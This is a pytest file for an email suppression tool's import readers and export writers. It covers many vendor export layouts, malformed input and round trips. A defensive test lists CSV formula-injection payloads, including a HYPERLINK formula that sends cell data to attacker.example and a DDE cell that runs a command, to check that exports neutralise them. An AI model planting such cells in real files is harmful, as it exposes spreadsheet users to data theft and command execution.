"""Bulk import readers and export writers: every layout, every way a file can be wrong."""

from __future__ import annotations

import csv
import hashlib
import io
import json
import tracemalloc
from datetime import UTC, datetime

import pytest

from suppression.fields import Addresses, Row
from suppression.formats import READ_FORMATS, WRITE_FORMATS
from suppression.formats import read as reader
from suppression.formats.read import Reading
from suppression.formats.write import (
    ExportRecord,
    WriteSummary,
    neutralised,
    write_consents,
    write_records,
)
from suppression.model import Consent
from suppression.textio import FormatError

pytestmark = pytest.mark.pure

SHA = hashlib.sha256(b"jane@example.com").hexdigest()
MD5 = hashlib.md5(b"jane@example.com", usedforsecurity=False).hexdigest()
T0 = datetime(2023, 11, 14, 22, 13, 20, tzinfo=UTC)  # unix 1700000000

PLAIN = b"# exported from the old list\nalice@example.com\n\n  Bob@Example.org  \nnot-an-address\n"
CSV = (
    b"Name,E-Mail,Reason,Created,Source,Policy_Version\n"
    b'"Doe, Jane",jane@example.com,Unsubscribe,2023-11-14T22:13:20Z,web-form,v2\n'
    b"Roe,rick@example.com,spam,1700000000,,\n"
    b"Nobody,,bounce,,,\n"
)
JSONL = (
    b'{"email": "jane@example.com", "reason": "complaint", "created_at": 1700000000,'
    b' "source": "shop", "consent": {"checkbox": true}}\n'
    b"\n"
    b'"rick@example.com"\n'
)
SHA256_LIST = b"sha256\n" + SHA.upper().encode() + b"\n# trailing comment\n"
MD5_LIST = b"email_hash,updated\n" + MD5.encode() + b",2024-01-01\n"

# SendGrid suppression downloads (Suppressions > Export CSV).
SENDGRID_BOUNCES = (
    b"email,created,status,reason\n"
    b'gone@example.com,1700000000,5.1.1,"550 5.1.1 The email account that you tried to reach'
    b' does not exist"\n'
)
SENDGRID_SPAM = b"email,created,ip\nspam@example.com,2023-11-14 22:13:20,192.0.2.7\n"
SENDGRID_UNSUBSCRIBES = b"email,created\nunsub@example.com,1700000000\n"
SENDGRID_INVALID = (
    b"email,created,reason\nnope@example,1700000000,Mail domain mentioned in email address is"
    b" unknown\n"
)

# Mailchimp audience export: the unsubscribed_members and cleaned_members files.
MAILCHIMP_COMMON = (
    b'"Email Address","First Name","Last Name",MEMBER_RATING,OPTIN_TIME,OPTIN_IP,'
    b"CONFIRM_TIME,CONFIRM_IP,LATITUDE,LONGITUDE,GMTOFF,DSTOFF,TIMEZONE,CC,REGION,"
)
MAILCHIMP_UNSUBSCRIBED = (
    MAILCHIMP_COMMON + b"UNSUB_TIME,UNSUB_CAMPAIGN_TITLE,UNSUB_CAMPAIGN_ID,UNSUB_REASON,"
    b"UNSUB_REASON_OTHER,LEID,EUID,NOTES,TAGS\r\n"
    b'jane@example.com,Jane,Doe,2,"2021-02-03 04:05:06",,"2021-02-03 04:06:00",'
    b'198.51.100.4,,,,,,,,"2023-11-14 22:13:20","Spring sale",abc123,NORMAL,,111,222,,\r\n'
    b'rick@example.com,Rick,Roe,1,,,,,,,,,,,,"2023-11-14 22:13:20","Spring sale",'
    b"abc123,SPAM,,112,223,,\r\n"
)
MAILCHIMP_CLEANED = (
    MAILCHIMP_COMMON + b"CLEAN_TIME,CLEAN_CAMPAIGN_TITLE,CLEAN_CAMPAIGN_ID,LEID,EUID,NOTES,TAGS\n"
    b'gone@example.com,,,1,,,,,,,,,,,,"2023-11-14 22:13:20","Spring sale",abc123,113,224,,\n'
)
MAILCHIMP_SUBSCRIBED = (
    MAILCHIMP_COMMON + b"LAST_CHANGED,LEID,EUID,NOTES,TAGS\n"
    b'jane@example.com,Jane,Doe,2,"2023-11-14 22:13:20",203.0.113.9,,,,,,,,,,'
    b'"2023-11-14 22:13:20",111,222,,\n'
)

# Amazon SES: bulk import CSV and JSON lines, and `aws sesv2 list-suppressed-destinations`.
SES_CSV = b"recipient1@example.com,BOUNCE\nrecipient2@example.com, COMPLAINT\n"
SES_CSV_HEADER = b"emailAddress,reason\nrecipient1@example.com,BOUNCE\n"
SES_JSONL = (
    b'{"emailAddress": "recipient1@example.com", "reason": "BOUNCE"}\n'
    b'{"EmailAddress": "recipient2@example.com", "Reason": "COMPLAINT",'
    b' "LastUpdateTime": "2023-11-14T14:13:20-08:00"}\n'
)
SES_CLI = b"""{
    "SuppressedDestinationSummaries": [
        {
            "EmailAddress": "recipient1@example.com",
            "Reason": "BOUNCE",
            "LastUpdateTime": "2023-11-14T22:13:20.000000+00:00"
        },
        {
            "EmailAddress": "recipient2@example.com",
            "Reason": "COMPLAINT",
            "LastUpdateTime": 1700000000
        }
    ],
    "NextToken": "AAAAexampleToken"
}
"""


def rows(data: bytes, fmt: str = "auto", source: str = "list.txt") -> list[Row]:
    return list(Reading(io.BytesIO(data), fmt, source))


def detected(data: bytes, fmt: str = "auto") -> str:
    reading = Reading(io.BytesIO(data), fmt, "list.txt")
    list(reading)
    return reading.format


def values(data: bytes, fmt: str = "auto") -> list[tuple[int, str, str]]:
    return [(row.line, row.value, row.kind) for row in rows(data, fmt)]


def reasons(data: bytes, fmt: str = "auto") -> list[tuple[str, str | None]]:
    return [(row.value, row.reason) for row in rows(data, fmt)]


def test_plain_skips_comments_and_blank_lines_and_keeps_invalid_addresses() -> None:
    assert values(PLAIN, "plain") == [
        (2, "alice@example.com", "address"),
        (4, "Bob@Example.org", "address"),
        (5, "not-an-address", "address"),
    ]


def test_csv_header_gives_address_reason_time_and_extra() -> None:
    jane, rick = rows(CSV, "csv")
    assert (jane.line, jane.value, jane.kind, jane.reason, jane.created) == (
        2,
        "jane@example.com",
        "address",
        "unsubscribed",
        T0,
    )
    assert jane.extra == {"name": "Doe, Jane", "policy_version": "v2"}
    assert jane.source == "web-form"
    assert (rick.reason, rick.created) == ("complained", T0)


def test_csv_without_header_reads_the_first_column() -> None:
    assert values(b"jane@example.com,2023-01-01\nrick@example.com\n", "csv") == [
        (1, "jane@example.com", "address"),
        (2, "rick@example.com", "address"),
    ]


@pytest.mark.parametrize("delimiter", [b";", b"\t"])
def test_csv_delimiter_is_sniffed(delimiter: bytes) -> None:
    data = b"email%breason\njane@example.com%bhard_bounce\n".replace(b"%b", delimiter)
    assert reasons(data, "csv") == [("jane@example.com", "bounced")]


def test_csv_quoted_newlines_keep_line_numbers() -> None:
    data = (
        b'email,note\njane@example.com,"first\nsecond\nthird"\n\nrick@example.com,"a\r\nb"\r\n'
        b"anna@example.com,x\n"
    )
    assert [(row.line, row.value) for row in rows(data, "csv")] == [
        (2, "jane@example.com"),
        (6, "rick@example.com"),
        (8, "anna@example.com"),
    ]
    assert rows(data, "csv")[0].extra["note"] == "first\nsecond\nthird"


def test_csv_reads_hash_only_rows() -> None:
    data = f"email,sha256\n,{SHA}\n,{MD5}\n,\n".encode()
    assert values(data, "csv") == [(2, SHA, "sha256"), (3, MD5, "md5")]


@pytest.mark.parametrize(
    ("fmt", "data"),
    [
        ("plain", b"jane@example.com\nrick@example.com\n"),
        ("csv", b"email,reason\njane@example.com,spam\nrick@example.com,spam\n"),
        ("jsonl", b'{"email": "jane@example.com"}\n"rick@example.com"\n'),
        ("sha256", f"{SHA}\n{SHA}\n".encode()),
    ],
)
def test_crlf_and_bom_change_nothing(fmt: str, data: bytes) -> None:
    expected = values(data, fmt)
    assert values(b"\xef\xbb\xbf" + data.replace(b"\n", b"\r\n"), fmt) == expected
    assert values(b"\xef\xbb\xbf" + data.replace(b"\n", b"\r\n"), "auto") == expected


def test_jsonl_objects_and_strings() -> None:
    jane, rick = rows(JSONL, "jsonl")
    assert (jane.line, jane.value, jane.reason, jane.created) == (
        1,
        "jane@example.com",
        "complained",
        T0,
    )
    assert jane.extra == {"consent": '{"checkbox": true}'}
    assert jane.source == "shop"
    assert (rick.line, rick.value, rick.reason, rick.extra) == (3, "rick@example.com", None, {})


def test_jsonl_object_without_address_is_an_error() -> None:
    with pytest.raises(FormatError, match=r"^list\.txt:2: no address field"):
        rows(b'{"email": "jane@example.com"}\n{"name": "Jane"}\n', "jsonl")


def test_jsonl_empty_address_is_skipped() -> None:
    assert values(b'{"email": ""}\n{"email": null}\n"  "\n', "jsonl") == []


@pytest.mark.parametrize(
    ("data", "fmt", "expected"),
    [
        (SHA256_LIST, "sha256", [(2, SHA, "sha256")]),
        (MD5_LIST, "md5", [(2, MD5, "md5")]),
        (f"{MD5}\n".encode(), "md5", [(1, MD5, "md5")]),
    ],
)
def test_digest_lists(data: bytes, fmt: str, expected: list[tuple[int, str, str]]) -> None:
    assert values(data, fmt) == expected
    assert values(data) == expected


def test_a_csv_keyed_by_a_digest_keeps_its_other_columns() -> None:
    """A header naming a digest column and more is a CSV, not a digest list."""
    data = f"sha256,scope,reason\n{SHA},topic:news,complained\n".encode()
    assert detected(data) == "csv"
    (row,) = rows(data)
    assert (row.value, row.kind, row.scope) == (SHA, "sha256", "topic:news")
    assert row.reason == "complained"
    (only,) = rows(f"md5,reason\n{MD5},bounced\n".encode())
    assert (only.value, only.kind, only.reason) == (MD5, "md5", "bounced")


def test_detected_digest_list_leaves_bad_lines_to_the_importer() -> None:
    assert values(f"{SHA}\nnot-a-digest\n".encode()) == [
        (1, SHA, "sha256"),
        (2, "not-a-digest", "sha256"),
    ]


@pytest.mark.parametrize(
    ("data", "expected"),
    [
        (SENDGRID_BOUNCES, [("gone@example.com", "bounced")]),
        (SENDGRID_SPAM, [("spam@example.com", "complained")]),
        (SENDGRID_UNSUBSCRIBES, [("unsub@example.com", "unsubscribed")]),
        (SENDGRID_INVALID, [("nope@example", "invalid")]),
    ],
)
def test_sendgrid_list_follows_from_columns(
    data: bytes, expected: list[tuple[str, str | None]]
) -> None:
    assert reasons(data, "sendgrid") == expected
    assert rows(data, "sendgrid")[0].created == T0


def test_sendgrid_bounce_keeps_the_smtp_status_and_text() -> None:
    (row,) = rows(SENDGRID_BOUNCES, "sendgrid")
    assert row.status == "5.1.1"
    assert (row.diagnostic or "").startswith("550 5.1.1")


def test_mailchimp_unsubscribed_export() -> None:
    jane, rick = rows(MAILCHIMP_UNSUBSCRIBED, "mailchimp")
    assert (jane.line, jane.value, jane.reason, jane.created) == (
        2,
        "jane@example.com",
        "unsubscribed",
        T0,
    )
    assert jane.extra["unsub_campaign_title"] == "Spring sale"
    assert jane.extra["confirm_ip"] == "198.51.100.4"
    assert (rick.reason, rick.created) == ("complained", T0)


def test_mailchimp_cleaned_export_is_bounced() -> None:
    assert [(r.value, r.reason, r.created) for r in rows(MAILCHIMP_CLEANED, "mailchimp")] == [
        ("gone@example.com", "bounced", T0)
    ]


def test_mailchimp_subscribed_export_is_marked_subscribed() -> None:
    (row,) = rows(MAILCHIMP_SUBSCRIBED, "mailchimp")
    assert (row.reason, row.created, row.extra["optin_ip"]) == (None, T0, "203.0.113.9")
    assert row.status == "subscribed", "the importer refuses these rows"


@pytest.mark.parametrize("data", [SES_CSV, SES_CSV_HEADER + b"recipient2@example.com,COMPLAINT\n"])
def test_ses_csv(data: bytes) -> None:
    assert reasons(data, "ses") == [
        ("recipient1@example.com", "bounced"),
        ("recipient2@example.com", "complained"),
    ]


def test_ses_json_lines() -> None:
    first, second = rows(SES_JSONL, "ses")
    assert (first.value, first.reason, first.created) == ("recipient1@example.com", "bounced", None)
    assert (second.value, second.reason, second.created) == (
        "recipient2@example.com",
        "complained",
        T0,
    )


def test_ses_cli_output() -> None:
    assert [(r.line, r.value, r.reason, r.created) for r in rows(SES_CLI, "ses")] == [
        (3, "recipient1@example.com", "bounced", T0),
        (8, "recipient2@example.com", "complained", T0),
    ]


def test_ses_pages_one_after_another_and_bare_arrays() -> None:
    data = SES_CLI + SES_CLI.replace(b"recipient", b"other") + b'["x@example.com"]\n'
    assert [row.value for row in rows(data, "ses")] == [
        "recipient1@example.com",
        "recipient2@example.com",
        "other1@example.com",
        "other2@example.com",
        "x@example.com",
    ]


def test_json_document_records_keep_the_line_they_start_on_and_paging_is_skipped() -> None:
    assert [row.line for row in rows(SES_CLI, "ses")] == [3, 8]
    data = (
        b'{"paging": {"next": {"url": "https://x/?items=1", "items": ["no@example.com"]}},\n'
        b' "items": [\n  {"address": "a@example.com", "created_at": 1700000000},\n'
        b'  {"address": "b@example.com"}]}\n'
    )
    assert [(row.line, row.value) for row in rows(data, "mailgun")] == [
        (3, "a@example.com"),
        (4, "b@example.com"),
    ]


def test_a_json_record_over_a_mebibyte_is_refused() -> None:
    data = b'{"items": [\n{"address": "a@example.com", "x": "' + b"y" * (3 << 20) + b'"}]}'
    with pytest.raises(FormatError, match=r"^list\.txt:2: a JSON record over 1024 KiB$"):
        rows(data, "mailgun")


@pytest.mark.corpus
def test_ses_document_on_one_long_line_is_read_in_pieces() -> None:
    summaries = [
        {"EmailAddress": f"user{i}@example.com", "Reason": "BOUNCE", "LastUpdateTime": 1700000000}
        for i in range(30_000)
    ]
    data = json.dumps({"NextToken": "t", "SuppressedDestinationSummaries": summaries}).encode()
    assert len(data) > 2 << 20
    read = rows(data, "auto")
    assert len(read) == 30_000
    assert read[-1] == Row(1, "user29999@example.com", "address", "bounced", T0, read[-1].extra)


@pytest.mark.parametrize(
    ("data", "fmt"),
    [
        (PLAIN, "plain"),
        (CSV, "csv"),
        (b"jane@example.com;x\n", "csv"),
        (JSONL, "jsonl"),
        (SHA256_LIST, "sha256"),
        (MD5_LIST, "md5"),
        (SENDGRID_BOUNCES, "sendgrid"),
        (SENDGRID_SPAM, "sendgrid"),
        (SENDGRID_UNSUBSCRIBES, "sendgrid"),
        (MAILCHIMP_UNSUBSCRIBED, "mailchimp"),
        (MAILCHIMP_CLEANED, "mailchimp"),
        (MAILCHIMP_SUBSCRIBED, "mailchimp"),
        (SES_CSV, "ses"),
        (SES_CSV_HEADER, "ses"),
        (SES_JSONL, "ses"),
        (SES_CLI, "ses"),
        (b"", "plain"),
    ],
)
def test_auto_detection_matches_the_explicit_format(data: bytes, fmt: str) -> None:
    assert rows(data, "auto") == rows(data, fmt)


def test_sendgrid_invalid_emails_are_told_from_a_generic_csv() -> None:
    assert reasons(SENDGRID_INVALID) == [("nope@example", "invalid")]
    assert detected(SENDGRID_INVALID) == "sendgrid"
    generic = b"email,created,reason\njane@example.com,1700000000,spam\n"
    assert reasons(generic) == [("jane@example.com", "complained")]
    dated = b"email,created,reason\njane@example.com,2024-01-01,moved away\n"
    assert reasons(dated) == [("jane@example.com", None)]
    assert detected(dated) == "csv"


@pytest.mark.parametrize(
    ("data", "fmt", "line", "message"),
    [
        (b"jane@example.com\n\x00\x01\x02PK\x03\x04\n", "plain", 2, "binary data"),
        (b"jane@example.com\n\x89PNG\r\n\x1a\n\x00\x00", "auto", 2, "not valid UTF-8"),
        (b"jane@example.com\n\x1b\xff\n", "auto", 2, "binary data"),
        (b"a@example.com\nb@example.com\nc\xff@example.com\n", "plain", 3, "not valid UTF-8"),
        (b"a@example.com\nb\xc3", "auto", 2, "not valid UTF-8"),
        (b"\xff\xfej\x00a\x00n\x00e\x00", "auto", 1, "UTF-16"),
        (b"x" * (1 << 20) + b"@example.com\n", "plain", 1, "line longer than 1024 KiB"),
        (b'email,note\njane@example.com,"unterminated\nmore\n', "csv", 2, "unterminated quoted"),
        (b'email,note\njane@example.com,"Doe"x\n', "csv", 2, "malformed CSV"),
        (b'{"email": "a@example.com"}\n{"email": "b@exa', "jsonl", 2, "truncated line"),
        (b'{"email": "a@example.com"}\n{email: 1}\n{}\n', "jsonl", 2, "not a JSON line"),
        (b"[1, 2]\n", "jsonl", 1, "expected a JSON object or string"),
        (CSV, "jsonl", 1, "not a JSON line"),
        (PLAIN, "sha256", 2, "not a sha256 digest"),
        (SHA256_LIST, "md5", 2, "not a md5 digest"),
        (f"{SHA}\n{SHA[:-1]}\n".encode(), "sha256", 2, "not a sha256 digest"),
        (CSV, "plain", 1, "use --format csv"),
        (JSONL, "plain", 1, "use --format jsonl"),
        (JSONL, "csv", 1, "use --format jsonl"),
        (f"{SHA}\n".encode(), "csv", 1, "use --format sha256"),
        (PLAIN, "sendgrid", 2, "not a SendGrid export"),
        (SENDGRID_BOUNCES, "mailchimp", 1, "not a Mailchimp export"),
        (MAILCHIMP_CLEANED, "ses", 1, "not an SES list"),
        (SES_CLI[:200], "ses", 3, "truncated JSON"),
        (b'{\n  "Summaries": []\n}\n', "ses", 1, "no SuppressedDestinationSummaries"),
        (
            b'{"SuppressedDestinationSummaries": [\n"a@example.com" "b@example.com"]}',
            "ses",
            2,
            "invalid JSON: after array element, I expect ',' or ']'",
        ),
    ],
)
def test_errors_name_source_and_line(data: bytes, fmt: str, line: int, message: str) -> None:
    with pytest.raises(FormatError) as caught:
        rows(data, fmt, source="upload.csv")
    assert str(caught.value).startswith(f"upload.csv:{line}: ")
    assert (caught.value.source, caught.value.line) == ("upload.csv", line)
    assert message in caught.value.message


ODD_CSV = (
    b'email,note\na@example.com,1\n\n"b@example.com",2\n"c\n@example.com",3\n'
    b"'=d@example.com,4\n@example.org,5\ne@example.com,6\nf@example.com,7\n"
)
ODD_ROWS = [
    (2, "a@example.com"),
    (4, "b@example.com"),
    (5, "c\n@example.com"),
    (7, "=d@example.com"),
    (8, "@example.org"),
    (9, "e@example.com"),
    (10, "f@example.com"),
]


@pytest.mark.parametrize("block", [1, 2, 3, 10_000])
@pytest.mark.parametrize("keep_extra", [False, True])
def test_address_blocks_keep_every_line(
    monkeypatch: pytest.MonkeyPatch, block: int, keep_extra: bool
) -> None:
    """A CSV of the usual layout is read a block of records at a time (fields.Addresses)
    when the extra fields are not kept: the same rows on the same lines as record by
    record, across blank lines, quoted line breaks, neutralised cells and domains."""
    monkeypatch.setattr(reader, "_RECORDS_A_BLOCK", block)
    reading = Reading(io.BytesIO(ODD_CSV), "csv", "list.csv", keep_extra=keep_extra)
    found = [
        (line, value)
        for record in reading.records()
        for line, value in (
            zip(record.lines, record.values, strict=True)
            if isinstance(record, Addresses)
            else [(record.line, record.value)]
        )
    ]
    assert found == ODD_ROWS


@pytest.mark.parametrize("block", [1, 2, 10_000])
def test_a_broken_record_after_whole_blocks_names_its_line(
    monkeypatch: pytest.MonkeyPatch, block: int
) -> None:
    monkeypatch.setattr(reader, "_RECORDS_A_BLOCK", block)
    data = b'email\na@example.com\n"b\nx"\nc@example.com\n"d@example.com\n'
    with pytest.raises(FormatError, match=r"list.csv:6: unterminated quoted field"):
        list(Reading(io.BytesIO(data), "csv", "list.csv", keep_extra=False).records())


def test_plain_lists_are_read_in_blocks_of_addresses() -> None:
    data = b"# list\na@example.com\n\n@example.org\n#x\nb@example.com\nc@example.com\n"
    records = list(Reading(io.BytesIO(data), "plain", "list.txt").records())
    assert records[0] == Addresses(["a@example.com"], [2])
    assert isinstance(records[1], Row)
    assert (records[1].line, records[1].value) == (4, "@example.org")
    assert records[2] == Addresses(["b@example.com", "c@example.com"], [6, 7])
    clean = list(Reading(io.BytesIO(b"a@example.com\nb@example.com\n"), "plain", "x").records())
    assert clean == [Addresses(["a@example.com", "b@example.com"], range(1, 3))]


def test_format_error_comes_while_iterating() -> None:
    found = Reading(io.BytesIO(b"\x00"), "plain", "x")
    with pytest.raises(FormatError):
        next(iter(found))


@pytest.mark.parametrize("fmt", ["xml", "", "CSV"])
def test_unknown_format_names_the_choices(fmt: str) -> None:
    with pytest.raises(ValueError, match="auto, csv, jsonl, plain, sha256, md5, sendgrid"):
        Reading(io.BytesIO(b""), fmt, "x")
    with pytest.raises(ValueError, match="csv, jsonl, sha256, md5"):
        write_records([], fmt, io.StringIO())


def test_format_lists() -> None:
    assert READ_FORMATS[0] == "auto"
    assert set(WRITE_FORMATS) < set(READ_FORMATS)


# Writers --------------------------------------------------------------------

RECORDS = [
    ExportRecord(SHA, "jane@example.com", "global", "unsubscribed", "web", T0),
    ExportRecord(
        hashlib.sha256(b"erased@example.com").hexdigest(),
        None,
        "topic:news",
        "complained",
        "import",
        datetime(2024, 1, 2, 3, 4, 5, 600000, tzinfo=UTC),
    ),
    ExportRecord(MD5, None, "global", "imported", "partner", T0, "md5"),
    ExportRecord(
        hashlib.sha256(b"@example.net").hexdigest(),
        "@example.net",
        "global",
        "manual",
        "cli",
        T0,
        "domain",
    ),
]


def written(fmt: str, records: list[ExportRecord] = RECORDS) -> tuple[str, WriteSummary]:
    out = io.StringIO()
    summary = write_records(iter(records), fmt, out)
    return out.getvalue(), summary


def test_csv_writer() -> None:
    text, summary = written("csv")
    assert summary == WriteSummary(4, 0)
    assert text.splitlines() == [
        "email,sha256,scope,reason,source,created,evidence",
        f"jane@example.com,{SHA},global,unsubscribed,web,2023-11-14T22:13:20Z,",
        f",{RECORDS[1].sha256},topic:news,complained,import,2024-01-02T03:04:05.600000Z,",
        f",{MD5},global,imported,partner,2023-11-14T22:13:20Z,",
        f"'@example.net,{RECORDS[3].sha256},global,manual,cli,2023-11-14T22:13:20Z,",
    ]


def test_csv_writer_can_continue_without_header() -> None:
    out = io.StringIO()
    write_records(RECORDS[:1], "csv", out)
    write_records(RECORDS[1:], "csv", out, header=False)
    assert out.getvalue() == written("csv")[0]


def test_csv_round_trip() -> None:
    text, _ = written("csv")
    read = rows(text.encode(), "csv")
    assert [(row.value, row.kind, row.reason, row.created) for row in read] == [
        ("jane@example.com", "address", "unsubscribed", T0),
        (RECORDS[1].sha256, "sha256", "complained", RECORDS[1].created),
        (MD5, "md5", "imported", T0),
        ("@example.net", "address", "manual", T0),
    ]
    assert read[1].scope == "topic:news"
    assert [row.source for row in read] == ["web", "import", "partner", "cli"]
    assert rows(text.encode()) == read


def test_jsonl_writer_and_round_trip() -> None:
    text, summary = written("jsonl")
    assert summary == WriteSummary(4, 0)
    assert json.loads(text.splitlines()[1]) == {
        "email": None,
        "sha256": RECORDS[1].sha256,
        "scope": "topic:news",
        "reason": "complained",
        "source": "import",
        "created": "2024-01-02T03:04:05.600000Z",
        "evidence": None,
    }
    assert rows(text.encode(), "jsonl") == [
        row._replace(line=row.line - 1) for row in rows(written("csv")[0].encode(), "csv")
    ]


def test_sha256_writer_skips_md5_and_domain_records() -> None:
    text, summary = written("sha256")
    assert summary == WriteSummary(2, 2)
    assert text == f"{SHA}\n{RECORDS[1].sha256}\n"
    assert [row.value for row in rows(text.encode(), "sha256")] == [SHA, RECORDS[1].sha256]


def test_md5_writer_hashes_known_addresses_and_keeps_md5_records() -> None:
    records = [*RECORDS, ExportRecord(SHA, "  Jane@Example.COM ", "global", "manual", "cli", T0)]
    text, summary = written("md5", records)
    assert summary == WriteSummary(3, 2)
    assert text == f"{MD5}\n{MD5}\n{MD5}\n"


def test_naive_times_are_taken_as_utc() -> None:
    naive = ExportRecord(SHA, None, "global", "manual", "cli", datetime(2023, 11, 14, 22, 13, 20))
    assert written("csv", [naive])[0].endswith(",2023-11-14T22:13:20Z,\r\n")


# a cell for every character a spreadsheet may take as the start of a formula
FORMULAS = [
    '=HYPERLINK("http://attacker.example/?"&A1)',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "|calc",
    "'=already quoted",
    "''",
    "'plain",
]


@pytest.mark.parametrize("cell", FORMULAS)
def test_neutralised_cells_start_with_a_quote_and_read_back(cell: str) -> None:
    assert neutralised(cell) == "'" + cell
    assert neutralised("plain=text") == "plain=text"
    text = io.StringIO()
    record = ExportRecord(SHA, "jane@example.com", "global", "manual", cell, T0)
    write_records([record], "csv", text)
    line = text.getvalue().splitlines()[1]
    assert not line.startswith(tuple("=+-@|\t\r")), line
    written_cell = next(csv.reader([line]))[4]
    assert written_cell[0] == "'"
    (row,) = rows(text.getvalue().encode(), "csv")
    assert row.source == cell.strip()  # the reader trims cells, then undoes the quote


def test_every_csv_cell_of_an_export_is_neutralised() -> None:
    """Addresses a forged From could plant, a domain entry, a source and evidence."""
    hostile = ["=cmd@example.com", "+x@example.com", "-x@example.com", "|x@example.com"]
    records = [ExportRecord(SHA, a, "global", "manual", "-web", T0) for a in hostile]
    records.append(ExportRecord(SHA, "@example.net", "global", "manual", "cli", T0, "domain"))
    records.append(
        ExportRecord(SHA, "a@example.com", "global", "manual", "cli", T0, evidence='=1+{"a":1}')
    )
    out = io.StringIO()
    write_records(records, "csv", out)
    consents = io.StringIO()
    consent = Consent(SHA, "news", True, "=web", T0, "+2", "@x@example.com", '-{"ip": 1}')
    write_consents([consent], "csv", consents)
    for text in (out.getvalue(), consents.getvalue()):
        for fields in list(csv.reader(io.StringIO(text)))[1:]:
            assert not [f for f in fields if f[:1] in ("=", "+", "-", "@", "|", "\t", "\r")]
    assert [row.value for row in rows(out.getvalue().encode(), "csv")][:5] == [
        *hostile,
        "@example.net",
    ]


def test_consent_writer_columns_and_round_trip() -> None:
    records = [
        Consent(SHA, "news", True, "web", T0, "3", "jane@example.com", '{"ip": "192.0.2.1"}'),
        Consent(SHA, "partner-offers", False, "cli", T0),
    ]
    for fmt in ("csv", "jsonl"):
        out = io.StringIO()
        assert write_consents(records, fmt, out) == WriteSummary(2, 0)
        read = rows(out.getvalue().encode(), fmt)
        assert [(r.value, r.kind, r.created, r.source, r.evidence) for r in read] == [
            ("jane@example.com", "address", T0, "web", '{"ip": "192.0.2.1"}'),
            (SHA, "sha256", T0, "cli", None),
        ]
        assert [dict(r.extra) for r in read] == [
            {"purpose": "news", "state": "granted", "policy_version": "3"},
            {"purpose": "partner-offers", "state": "revoked"},
        ]


# Native formats of Mailgun, Postmark and SES text output ------------------------------

MAILGUN_BOUNCES = (
    b"address,code,error,created_at\n"
    b'gone@example.com,550,"5.1.1 The email account does not exist",'
    b'"Fri, 21 Oct 2011 11:02:55 GMT"\n'
    b'blocked@example.com,554,"5.7.1 Service unavailable; client host blocked using Spamhaus",'
    b'"Fri, 21 Oct 2011 11:02:55 GMT"\n'
)
MAILGUN_UNSUBSCRIBES = b'address,tags,created_at\nu@example.com,*,"Fri, 18 Oct 2024 18:28:14 UTC"\n'
MAILGUN_COMPLAINTS = b'address,created_at\nc@example.com,"Fri, 21 Oct 2011 11:02:55 GMT"\n'
MAILGUN_JSON = json.dumps(
    {
        "items": [
            {
                "address": "gone@example.com",
                "code": "550",
                "error": "No such mailbox",
                "created_at": "Fri, 21 Oct 2011 11:02:55 GMT",
            },
            {
                "address": "u@example.com",
                "tags": ["*"],
                "created_at": "Fri, 21 Oct 2011 11:02:55 UTC",
            },
            {"address": "c@example.com", "created_at": "Fri, 21 Oct 2011 11:02:55 GMT"},
        ],
        "paging": {"first": "https://api.mailgun.net/v3/x/bounces?page=first", "next": "n"},
    },
    indent=2,
).encode()
T1 = datetime(2011, 10, 21, 11, 2, 55, tzinfo=UTC)
POSTMARK_JSON = json.dumps(
    {
        "Suppressions": [
            {
                "EmailAddress": "address@wildbit.com",
                "SuppressionReason": "ManualSuppression",
                "Origin": "Recipient",
                "CreatedAt": "2019-12-17T08:58:33-05:00",
            },
            {
                "EmailAddress": "bounce.address@wildbit.com",
                "SuppressionReason": "HardBounce",
                "Origin": "Recipient",
                "CreatedAt": "2019-12-17T08:58:33-05:00",
            },
            {
                "EmailAddress": "spam.complaint.address@wildbit.com",
                "SuppressionReason": "SpamComplaint",
                "Origin": "Recipient",
                "CreatedAt": "2019-12-17T08:58:33-05:00",
            },
            {
                "EmailAddress": "by.us@wildbit.com",
                "SuppressionReason": "ManualSuppression",
                "Origin": "Customer",
                "CreatedAt": "2019-12-17T08:58:33-05:00",
            },
        ]
    },
    indent=2,
).encode()
POSTMARK_CSV = (
    b"Email Address,Suppression Reason,Origin,Created At\n"
    b"address@wildbit.com,ManualSuppression,Recipient,2019-12-17T08:58:33-05:00\n"
    b"bounce.address@wildbit.com,HardBounce,Recipient,2019-12-17T08:58:33-05:00\n"
)
T2 = datetime(2019, 12, 17, 13, 58, 33, tzinfo=UTC)
SES_TEXT = (
    b"AAAAexampleNextToken\n"
    b"SUPPRESSEDDESTINATIONSUMMARIES\trecipient1@example.com\t"
    b"2023-11-14T22:13:20.000000+00:00\tBOUNCE\n"
    b"SUPPRESSEDDESTINATIONSUMMARIES\trecipient2@example.com\t"
    b"2023-11-14T22:13:20+00:00\tCOMPLAINT\n"
)


@pytest.mark.parametrize(
    ("data", "fmt", "shown", "expected"),
    [
        (
            MAILGUN_BOUNCES,
            "mailgun",
            "mailgun",
            [("gone@example.com", "bounced", T1), ("blocked@example.com", "bounced", T1)],
        ),
        (
            MAILGUN_UNSUBSCRIBES,
            "mailgun",
            "mailgun",
            [("u@example.com", "unsubscribed", datetime(2024, 10, 18, 18, 28, 14, tzinfo=UTC))],
        ),
        (MAILGUN_COMPLAINTS, "mailgun", "mailgun", [("c@example.com", "complained", T1)]),
        (
            MAILGUN_JSON,
            "mailgun",
            "mailgun (json)",
            [
                ("gone@example.com", "bounced", T1),
                ("u@example.com", "unsubscribed", T1),
                ("c@example.com", "complained", T1),
            ],
        ),
        (
            POSTMARK_JSON,
            "postmark",
            "postmark (json)",
            [
                ("address@wildbit.com", "unsubscribed", T2),
                ("bounce.address@wildbit.com", "bounced", T2),
                ("spam.complaint.address@wildbit.com", "complained", T2),
                ("by.us@wildbit.com", "manual", T2),
            ],
        ),
        (
            POSTMARK_CSV,
            "postmark",
            "postmark",
            [
                ("address@wildbit.com", "unsubscribed", T2),
                ("bounce.address@wildbit.com", "bounced", T2),
            ],
        ),
        (
            SES_TEXT,
            "ses",
            "ses (text)",
            [
                ("recipient1@example.com", "bounced", T0),
                ("recipient2@example.com", "complained", T0),
            ],
        ),
    ],
)
def test_native_vendor_formats(
    data: bytes, fmt: str, shown: str, expected: list[tuple[str, str, datetime]]
) -> None:
    for asked in (fmt, "auto"):
        assert [(r.value, r.reason, r.created) for r in rows(data, asked)] == expected
        assert detected(data, asked) == shown


def test_mailgun_bounces_carry_code_and_error_for_the_policy_check() -> None:
    gone, blocked = rows(MAILGUN_BOUNCES)
    assert (gone.status, gone.diagnostic) == ("550", "5.1.1 The email account does not exist")
    assert blocked.diagnostic is not None
